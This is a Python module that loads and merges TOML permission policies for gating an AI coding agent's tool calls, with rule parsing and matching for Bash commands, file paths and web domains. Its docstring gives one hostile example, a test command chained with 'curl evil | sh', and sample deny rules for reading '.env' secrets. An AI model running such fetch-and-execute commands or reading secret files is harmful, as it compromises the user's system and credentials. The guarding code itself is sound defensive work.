"""Guard policy: explicit rules in Claude Code's permission-rule syntax, and settings.

Files (TOML), merged in this order, later ones adding rules and overriding settings:
    $KAIROS_HOME/guard.toml            per user
    <project>/.kairos/guard.toml       per project (shared through git)

    [guard]
    mode = "default"          # "default" | "strict" (never auto-allow on a user request or approval)
    ratchet = true            # user-approved call shapes become auto-allowable in this project
    journal = true            # record every decision
    llm_review = false        # ask an LLM about calls that are only uncertain (never about dangerous ones)
    llm_timeout = 8.0

    [rules]
    deny  = ["Read(./.env)", "Bash(git push --force *)"]
    ask   = ["Bash(terraform *)"]
    allow = ["Bash(npm run test *)", "WebFetch(domain:docs.python.org)"]

Rules are checked deny, then ask, then allow. A Bash rule matches a compound
command for deny/ask if any part matches, and for allow only if every part does,
so ``Bash(npm test *)`` never allows ``npm test && curl evil | sh``.
Invalid files raise :class:`kairos.errors.ConfigError` naming the file and key.
"""

from __future__ import annotations

import os
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from kairos.guard._lazy import lazy_re
from kairos.errors import ConfigError

__all__ = ["Policy", "Rule", "load_policy", "parse_rule"]

_TOOL = lazy_re(r"^(?:[A-Z][A-Za-z]*|mcp__[A-Za-z0-9_-]+(?:__[A-Za-z0-9_*-]+)?)$")
_RULE = lazy_re(r"^\s*([^()\s]+)\s*(?:\((.*)\))?\s*$", re.S)
_PATH_TOOLS = {"Read": ("Read", "Grep", "Glob", "LS", "NotebookRead"),
               "Edit": ("Edit", "MultiEdit", "Write", "NotebookEdit"),
               "Write": ("Write",), "MultiEdit": ("MultiEdit",), "NotebookEdit": ("NotebookEdit",),
               "Grep": ("Grep",), "Glob": ("Glob",)}
_SETTINGS = {"mode": str, "ratchet": bool, "journal": bool, "llm_review": bool, "llm_timeout": (int, float)}
_MODES = ("default", "strict")


@dataclass(frozen=True)
class Rule:
    text: str
    tool: str
    spec: str | None
    source: str

    def matches(self, tool: str, tool_input: dict[str, Any], *, parts: list[str] | None, root: str, home: str,
                whole: bool) -> bool:
        if self.tool != tool and tool not in _PATH_TOOLS.get(self.tool, ()) and not (
                self.tool.endswith("*") and tool.startswith(self.tool[:-1])):
            return False
        if self.spec is None or self.spec in ("*", ""):
            return True
        if tool == "Bash":
            cmd = str(tool_input.get("command", ""))
            if (not whole or len(parts or ()) <= 1) and _cmd_match(self.spec, cmd):
                return True
            if parts:
                hits = [_cmd_match(self.spec, p) for p in parts]
                return all(hits) if whole else any(hits)
            return False
        if tool in ("WebFetch",) and self.spec.startswith("domain:"):
            from urllib.parse import urlsplit

            host = (urlsplit(str(tool_input.get("url", ""))).hostname or "").lower()
            dom = self.spec[7:].lower()
            return host == dom or host.endswith("." + dom)
        path = tool_input.get("file_path") or tool_input.get("notebook_path") or tool_input.get("path")
        if isinstance(path, str):
            return _path_match(self.spec, path, root, home)
        return False


def _cmd_match(spec: str, cmd: str) -> bool:
    cmd = " ".join(cmd.split())
    spec = " ".join(spec.split())
    if spec.endswith(":*"):
        pre = spec[:-2]
        return cmd == pre or cmd.startswith(pre + " ") or cmd.startswith(pre)
    rx = "^" + ".*".join(re.escape(p) for p in spec.split("*")) + "$"
    if spec.endswith(" *") and cmd == spec[:-2]:
        return True
    return re.match(rx, cmd, re.S) is not None


def _path_match(spec: str, path: str, root: str, home: str) -> bool:
    if spec.startswith("//"):
        pat = spec[1:]
    elif spec.startswith("~/"):
        pat = os.path.join(home, spec[2:])
    elif spec.startswith("/"):
        pat = os.path.join(root, spec[1:])
    else:
        pat = os.path.join(root, spec[2:] if spec.startswith("./") else spec)
    target = os.path.normpath(path if os.path.isabs(path) else os.path.join(root, path))
    rx = ""
    i = 0
    while i < len(pat):
        if pat.startswith("**", i):
            rx += ".*"
            i += 2
        elif pat[i] == "*":
            rx += "[^/]*"
            i += 1
        elif pat[i] == "?":
            rx += "[^/]"
            i += 1
        else:
            rx += re.escape(pat[i])
            i += 1
    if re.fullmatch(rx, target) or re.fullmatch(rx + "/.*", target):
        return True
    bare = spec[2:] if spec.startswith("./") else spec
    return "/" not in bare and re.fullmatch(rx.rsplit("/", 1)[-1], os.path.basename(target)) is not None


def parse_rule(text: str, source: str = "<rule>") -> Rule:
    """Parse ``Tool`` or ``Tool(specifier)``; raises ConfigError on bad syntax."""
    if not isinstance(text, str) or not text.strip():
        raise ConfigError(f"{source}: empty rule")
    m = _RULE.match(text)
    if not m:
        raise ConfigError(f"{source}: cannot parse rule {text!r}; expected Tool or Tool(specifier)")
    tool, spec = m.group(1), m.group(2)
    if not _TOOL.match(tool.rstrip("*")):
        raise ConfigError(f"{source}: {tool!r} in rule {text!r} is not a tool name (e.g. Bash, Read, Edit, WebFetch)")
    if spec is not None and spec.count("(") != spec.count(")"):
        raise ConfigError(f"{source}: unbalanced parentheses in rule {text!r}")
    if tool == "WebFetch" and spec and not spec.startswith("domain:"):
        raise ConfigError(f"{source}: WebFetch rules take domain:HOST, got {spec!r}")
    return Rule(text.strip(), tool, spec.strip() if spec is not None else None, source)


@dataclass
class Policy:
    mode: str = "default"
    ratchet: bool = True
    journal: bool = True
    llm_review: bool = False
    llm_timeout: float = 8.0
    deny: list[Rule] = field(default_factory=list)
    ask: list[Rule] = field(default_factory=list)
    allow: list[Rule] = field(default_factory=list)
    sources: list[str] = field(default_factory=list)

    def merge_file(self, path: Path) -> None:
        import tomllib

        try:
            raw = path.read_bytes()
        except FileNotFoundError:
            return
        except OSError as exc:
            raise ConfigError(f"{path}: cannot read guard policy ({exc.strerror})") from exc
        try:
            data = tomllib.loads(raw.decode("utf-8"))
        except (tomllib.TOMLDecodeError, UnicodeDecodeError) as exc:
            raise ConfigError(f"{path}: invalid TOML: {exc}") from exc
        self.merge(data, str(path))

    def merge(self, data: dict[str, Any], source: str) -> None:
        unknown = set(data) - {"guard", "rules"}
        if unknown:
            raise ConfigError(f"{source}: unknown section(s) {sorted(unknown)}; expected [guard] and [rules]")
        g = data.get("guard", {})
        if not isinstance(g, dict):
            raise ConfigError(f"{source}: [guard] must be a table")
        for k, v in g.items():
            if k not in _SETTINGS:
                raise ConfigError(f"{source}: unknown setting guard.{k}; known: {', '.join(sorted(_SETTINGS))}")
            want = _SETTINGS[k]
            if not isinstance(v, want) or (want is not bool and isinstance(v, bool)):
                raise ConfigError(f"{source}: guard.{k} must be {getattr(want, '__name__', 'a number')}, "
                                  f"got {type(v).__name__}")
            if k == "mode" and v not in _MODES:
                raise ConfigError(f"{source}: guard.mode must be one of {_MODES}, got {v!r}")
            if k == "llm_timeout" and not 0 < float(v) <= 60:
                raise ConfigError(f"{source}: guard.llm_timeout must be between 0 and 60 seconds")
            setattr(self, k, float(v) if k == "llm_timeout" else v)
        r = data.get("rules", {})
        if not isinstance(r, dict):
            raise ConfigError(f"{source}: [rules] must be a table")
        for k, v in r.items():
            if k not in ("allow", "ask", "deny"):
                raise ConfigError(f"{source}: unknown key rules.{k}; expected allow, ask, deny")
            if not isinstance(v, list) or not all(isinstance(x, str) for x in v):
                raise ConfigError(f"{source}: rules.{k} must be a list of strings")
            getattr(self, k).extend(parse_rule(x, f"{source}: rules.{k}") for x in v)
        self.sources.append(source)

    def first_match(self, tool: str, tool_input: dict[str, Any], *, parts: list[str] | None, root: str,
                    home: str) -> tuple[str, Rule] | None:
        for kind in ("deny", "ask", "allow"):
            for rule in getattr(self, kind):
                if rule.matches(tool, tool_input, parts=parts, root=root, home=home, whole=kind == "allow"):
                    return kind, rule
        return None


def load_policy(project_root: str | Path, kairos_home: str | Path) -> Policy:
    """The merged user + project policy (defaults when neither file exists)."""
    p = Policy()
    p.merge_file(Path(kairos_home) / "guard.toml")
    p.merge_file(Path(project_root) / ".kairos" / "guard.toml")
    return p
